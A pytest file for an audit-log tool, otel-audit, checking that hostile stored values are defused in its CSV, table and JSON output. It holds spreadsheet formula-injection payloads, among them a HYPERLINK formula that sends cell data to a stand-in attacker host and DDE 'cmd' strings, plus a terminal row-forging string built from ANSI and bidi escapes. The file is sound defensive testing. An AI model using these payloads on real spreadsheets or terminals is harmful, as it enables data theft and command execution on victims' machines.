"""Stored values cannot act on whoever reads otel-audit's output.

The attacks a reviewer made: a CSV cell that a spreadsheet evaluates as a
formula, and a table row forged with a newline, ANSI escapes and a bidi
override. Values reach the database as an application would store them (the
real logging pipeline) and as a superuser would (triggers off, UPDATE); the
output of the real command is then checked.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest

from otel_audit.cli.output import csv_cell, escape_text, json_text
from otel_audit.core.keys import generate_signing_key, write_keypair
from tests.harness import App

pytestmark = pytest.mark.storage

ROOT = Path(__file__).resolve().parents[1]

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "'=already quoted",
]
# A row forged inside one value: clear the line, return, a fake row, then a bidi override.
FORGED = "mallory\x1b[2K\r2026-01-01T00:00:00+00:00  alice  read  success\n\u202eevil\u202c\u2066x\u2069\x07\x9b"


def cli(*args: str) -> subprocess.CompletedProcess:
    """The real command; its output decoded as it is (no universal-newline translation of CR)."""
    result = subprocess.run(
        [sys.executable, "-m", "otel_audit", *args],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        timeout=300,
    )
    result.stdout, result.stderr = result.stdout.decode(), result.stderr.decode()
    return result


def assert_terminal_safe(text: str) -> None:
    """Nothing in ``text`` but printable characters and the line breaks of the output itself."""
    for line in text.split("\n"):
        bad = [hex(ord(c)) for c in line if not c.isprintable()]
        assert not bad, f"raw control or format characters {bad} in output line {line!r}"


def stored(dsn: str, sql: str) -> list[tuple]:
    with psycopg.connect(dsn) as conn:
        return conn.execute(sql).fetchall()


@pytest.fixture
def hostile_trail(db: str, spool_dir: Path) -> str:
    """Records whose actor, reason, user agent and message are attacks, stored through the real pipeline."""
    app = App(db, spool_dir)
    for i, formula in enumerate(FORMULAS):
        app.log(
            f"message {i}",
            **{"audit.actor.id": formula, "audit.reason": formula, "user_agent.original": formula, "n": i},
        )
    app.log(FORGED, **{"audit.actor.id": FORGED, "audit.reason": FORGED, "session.id": FORGED})
    assert app.close()
    assert len(stored(db, "SELECT id FROM audit_logs")) == len(FORMULAS) + 1
    return db


# ---------------------------------------------------------------------- unit rules
def test_escape_text_makes_every_control_visible() -> None:
    assert escape_text("plain text, ümlaut, 漢字") == "plain text, ümlaut, 漢字"
    assert escape_text("a\x1b[31mb") == "a\\x1b[31mb"
    assert escape_text("x\ny\rz\tw") == "x\\ny\\rz\\tw"
    assert escape_text("\u202eabc\u202c") == "\\u202eabc\\u202c"
    for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]:
        assert escape_text(chr(code)) == f"\\u{code:04x}"
    assert escape_text("\x00\x7f\x85\x9b") == "\\x00\\x7f\\x85\\x9b"
    assert escape_text("\u200b\u2028\u2029\ufeff") == "\\u200b\\u2028\\u2029\\ufeff"
    assert escape_text("\U000e0041") == "\\U000e0041"  # a tag character (invisible)
    # The backslash is doubled, so that "\x1b" in the output always means the character.
    assert escape_text("C:\\x1b") == "C:\\\\x1b"
    assert escape_text("\\") == "\\\\"
    assert escape_text("C:\\x\n", backslash=False) == "C:\\x\\n"


def test_csv_cell_rule_is_reversible_and_leaves_numbers_alone() -> None:
    for value in FORMULAS:
        cell = csv_cell(value)
        assert cell.startswith("'") and cell[1:] == value
    assert csv_cell("-5") == "'-5" and csv_cell(-5) == "-5" and csv_cell(3) == "3"
    assert csv_cell("alice") == "alice" and csv_cell(None) == ""
    assert csv_cell(["=a", "b"]) == "'=a,b"


def test_json_text_is_exact_and_terminal_safe() -> None:
    value = {"v": FORGED + "\U000e0041\u2028", "ok": "ümlaut 漢字 \U0001f600"}
    text = json_text(value)
    assert json.loads(text) == value
    assert_terminal_safe(text)
    assert "\\u202e" in text and "\\udb40\\udc41" in text and "ümlaut 漢字 \U0001f600" in text


# ---------------------------------------------------------------------- through the real command
def test_csv_output_defuses_formulas(hostile_trail: str) -> None:
    result = cli("query", "resource", "patient_record", "patient-456", "--dsn", hostile_trail, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS) + 1
    actor = header.index("actor_id")
    reason = header.index("reason")
    formula_cells = [r[actor] for r in body if r[actor] != FORGED]
    assert sorted(c[1:] for c in formula_cells) == sorted(FORMULAS)
    for row in body:
        for cell in (row[actor], row[reason]):
            # No cell a spreadsheet would evaluate: each begins with the quote OWASP prescribes ...
            assert cell == FORGED or cell.startswith("'"), cell
    # ... and every cell of the file is quoted (so a value's comma or quote cannot start a new cell).
    raw_records = result.stdout.split("\r\n")
    assert raw_records[0].startswith('"timestamp",')
    for line in raw_records[1:]:
        if line:
            assert line.startswith('"') and line.endswith('"') or "\n" in line or '"' in line
    # The forged value comes back exactly (CSV is data: only the quote prefix is ever added).
    assert FORGED in [r[actor] for r in body]


def test_table_output_shows_escapes_and_cannot_forge_rows(hostile_trail: str) -> None:
    result = cli("query", "resource", "patient_record", "patient-456", "--dsn", hostile_trail)
    assert result.returncode == 0, result.stderr
    assert_terminal_safe(result.stdout)
    lines = result.stdout.splitlines()
    # header, rule, one line per record, the row count: the forged newline made no row of its own.
    data_lines = [line for line in lines[2:] if not line.startswith("(")]
    assert len(data_lines) == len(FORMULAS) + 1
    assert not any(line.startswith("2026-01-01T00:00:00+00:00  alice") for line in lines)
    assert escape_text(FORGED) in result.stdout
    assert "mallory\\x1b[2K\\r2026-01-01" in result.stdout and "\\n\\u202eevil\\u202c" in result.stdout


def test_json_output_is_exact(hostile_trail: str) -> None:
    result = cli("query", "resource", "patient_record", "patient-456", "--dsn", hostile_trail, "--format", "json")
    assert result.returncode == 0, result.stderr
    assert_terminal_safe(result.stdout)
    actors = sorted(r["actor_id"] for r in json.loads(result.stdout))
    assert actors == sorted(r[0] for r in stored(hostile_trail, "SELECT actor_id FROM audit_logs"))
    assert FORGED in actors


def test_values_a_superuser_wrote_are_escaped_in_query_verify_and_status(db: str, spool_dir: Path) -> None:
    app = App(db, spool_dir, service="billing")
    for _ in range(3):
        app.log()
    assert app.close()
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute("SET session_replication_role = replica")
        conn.execute("UPDATE audit_logs SET actor_id = %s, reason = %s WHERE seq = 2", (FORGED, "=1+1"))
        conn.execute(
            "UPDATE audit_chains SET emitter = jsonb_set(emitter, '{service_name}', to_jsonb(%s::text))", (FORGED,)
        )

    table = cli("query", "resource", "patient_record", "patient-456", "--dsn", db)
    assert table.returncode == 0, table.stderr
    assert_terminal_safe(table.stdout)
    assert escape_text(FORGED) in table.stdout

    as_csv = cli("query", "resource", "patient_record", "patient-456", "--dsn", db, "--format", "csv")
    header, *body = csv.reader(io.StringIO(as_csv.stdout, newline=""))
    reasons = [row[header.index("reason")] for row in body]
    assert "'=1+1" in reasons and "=1+1" not in reasons

    verify = cli("verify", "--dsn", db)
    assert verify.returncode == 1
    assert_terminal_safe(verify.stdout)
    finding_lines = [line for line in verify.stdout.splitlines() if line.startswith("ERROR")]
    # One line per finding; the stored value shown with its escapes (once: the finding quotes it with repr).
    assert any("column actor_id" in line and "'mallory\\x1b[2K\\r2026-01-01" in line for line in finding_lines)
    assert all(not line.startswith("2026-01-01") for line in verify.stdout.splitlines())

    status = cli("status", "--dsn", db, "--spool-dir", str(spool_dir))
    assert status.returncode == 0, status.stderr
    assert_terminal_safe(status.stdout)
    assert escape_text(FORGED) in status.stdout

    as_json = json.loads(cli("verify", "--dsn", db, "--json").stdout)
    (chain,) = as_json["chains"]
    # verify shows the sealed emitter; the edited column is a registry_mismatch whose detail keeps it exactly
    assert chain["emitter"]["service_name"] == "billing"
    (mismatch,) = [f for f in as_json["findings"] if f["kind"] == "registry_mismatch"]
    assert "mallory" in mismatch["detail"] and "\\u001b[2K" in mismatch["detail"]  # the jsonb text, as stored


def test_verify_proof_text_escapes_the_sealed_fields(db: str, spool_dir: Path, tmp_path: Path) -> None:
    key = generate_signing_key()
    private, public = write_keypair(key, tmp_path / "k")
    app = App(db, spool_dir, signing_key=str(private))
    app.log(**{"audit.actor.id": FORGED})
    assert app.close()  # the closing checkpoint anchors the record
    ((record_id,),) = stored(db, "SELECT id::text FROM audit_logs")
    proof = tmp_path / "proof.json"
    made = cli("prove", record_id, "--dsn", db, "--out", str(proof))
    assert made.returncode == 0, made.stderr
    checked = cli("verify-proof", str(proof), "--trusted-key", str(public))
    assert checked.returncode == 0, checked.stderr
    assert_terminal_safe(checked.stdout)
    assert f"actor {escape_text(FORGED)}  action read" in checked.stdout
